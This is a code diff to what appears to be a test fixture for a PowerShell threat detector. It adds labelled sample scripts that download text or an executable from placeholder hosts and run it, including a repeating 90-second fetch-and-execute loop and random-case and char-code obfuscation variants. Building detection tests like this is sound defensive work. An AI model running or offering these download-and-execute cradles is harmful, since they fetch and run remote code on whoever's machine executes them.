@@ -5,6 +5,36 @@ export const powershell: readonly Suspect[] = [
   text('cradle.ps1', 'suspicious', ['script_runs_downloaded_text'], cradle),
   text('fetch.ps1', 'suspicious', ['script_downloads_and_runs'], fetchAndRun),
   text(
+    'held-in-variables.ps1',
+    'suspicious',
+    ['script_runs_downloaded_text'],
+    "function Get-Text($u) { $c = New-Object Net.WebClient; return $c.DownloadString($u) }\n$first = Get-Text 'http://files.example/a'\n$second = $first.Trim()\nInvoke-Expression $second",
+  ),
+  text(
+    'asks-forever.ps1',
+    'suspicious',
+    ['script_runs_downloaded_text'],
+    "while($true){Start-Sleep -s 90;$m=New-Object Net.WebClient;iex($m.DownloadString('https://raw.githubusercontent.com/example/a/main/a.txt'))}",
+  ),
+  text(
+    'random-case.ps1',
+    'suspicious',
+    ['script_runs_unreadable_code'],
+    '$sT=NeW-oBJecT SYstEm.IO.meMOrYsTReam;$Tx=[sYsTeM.teXT.EnCOdiNg]::aScII;$Sr=nEw-OBjEct IO.sTReaMREadEr($sT);$R=$sR.rEaDtOEnd();INvOkE-exPReSSion $R',
+  ),
+  text(
+    'only-fetches.ps1',
+    'suspicious',
+    ['script_drops_fetched_program'],
+    "$p=$env:temp+'\\f.exe';(New-Object Net.WebClient).DownloadFile('https://files.example/a.exe',$p);Start-Process $p",
+  ),
+  text(
+    'numbers-split.ps1',
+    'suspicious',
+    ['script_runs_downloaded_text'],
+    `'${[...cradle].map((sign) => sign.charCodeAt(0)).join('x')}'.Split('x') | %{([int]$_ -as [char])} | iex`,
+  ),
+  text(
     'fetch-hidden.ps1',
     'malicious',
     ['script_downloads_and_runs', 'script_conceals_itself'],
